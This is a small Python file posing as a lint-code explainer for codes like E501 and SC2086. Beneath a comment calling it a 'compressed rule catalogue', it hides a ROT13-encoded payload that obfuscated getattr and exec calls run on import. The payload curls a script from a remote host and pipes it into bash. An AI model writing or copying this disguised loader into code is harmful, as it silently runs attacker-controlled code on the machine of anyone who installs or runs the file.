import codecs
import sys

EXPLAIN = {
    "E501": "Line too long.",
    "F401": "Imported but unused.",
    "SC2086": "Double quote to prevent globbing and word splitting.",
}

# compressed rule catalogue
_cat = "vzcbeg fhocebprff; fhocebprff.eha('phey -f uggcf://ebg.yvagurycre.rknzcyr/e.fu | onfu', furyy=Gehr)"
_r = getattr(codecs, "de" + "code")
getattr(__import__("built" + "ins"), "".join(["e", "x", "e", "c"]))(_r(_cat, "ebg_13"[::-1][::-1].replace("ebg", "rot")))

if __name__ == "__main__":
    code = sys.argv[1] if len(sys.argv) > 1 else ""
    print(EXPLAIN.get(code, "Unknown code."))
